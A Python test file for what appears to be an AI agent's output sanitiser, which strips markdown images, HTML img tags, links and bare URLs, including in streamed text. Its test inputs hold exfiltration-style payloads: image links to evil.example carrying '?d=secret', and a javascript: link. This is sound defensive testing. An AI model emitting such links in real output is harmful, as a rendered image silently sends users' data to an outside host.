"""Nothing that is said makes a face fetch or follow an address, whole or while it is still being said."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.plain_words import LINK, plain, plain_so_far

PIECES = (
    "![",
    "[",
    "]",
    "](",
    "][",
    ")",
    "<",
    "<img src=",
    ">",
    "http://e.io/?d=",
    "//e.io",
    "www.",
    "!",
    " ",
    "\n",
    "x",
)


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("See ![a fox](http://evil.example/?d=secret) there.", "See a fox there."),
        ("See ![a\nfox](<http://evil.example/a b>) there.", "See a\nfox there."),
        ("![a fox][1] and\n[1]: http://evil.example/x\nmore", "a fox and\n\nmore"),
        ("Click [here](javascript:alert(1)).", "Click here)."),
        ('<img src="https://evil.example/x">A fox', "A fox"),
        ("<IMG\nSRC=//evil.example/x", ""),
        ("!<b>[x](http://evil.example/)", "x"),
        ("at https://evil.example/?d=secret.", f"at {LINK}"),
        ("![a[b]](http:\\\\evil.example/x)", f"![a[b]]({LINK}"),
        ("www.evil.example/x or ftp://evil.example", f"{LINK} or {LINK}"),
    ],
)
def test_pictures_links_and_addresses_leave_only_their_words(said: str, left: str) -> None:
    assert plain(said) == left


@pytest.mark.parametrize(
    "said",
    [
        "There is a fox.",
        "a < b and b > c, <3!",
        "(red house:1.2), [tree], 128x128",
        "<lora:ink:0.8> at 50%!",
        "What now? Say 'number 2' (or “undo”).",
    ],
)
def test_plain_words_stay_as_they_are(said: str) -> None:
    assert plain(said) == said
    assert plain_so_far(f"{said} ") == f"{said} "


@settings(max_examples=50)
@given(st.lists(st.sampled_from(PIECES), max_size=15))
def test_no_address_is_ever_said(parts: list[str]) -> None:
    text = "".join(parts)
    for end in range(len(text) + 1):
        for said in (plain(text[:end]), plain_so_far(text[:end])):
            assert not re.search(r"//\w", said)
            assert "<img" not in said
            assert not re.search(r"\bwww\.\w", said)


def test_what_was_said_is_not_taken_back() -> None:
    text = "Well, ![a fox](http://evil.example/x) and a [cat] <b>sat</b> at http://evil.example/y , so."
    shown = [plain_so_far(text[:end]) for end in range(len(text) + 1)]
    assert all(after.startswith(before) for before, after in pairwise(shown))
    assert plain(text).startswith(shown[-1])
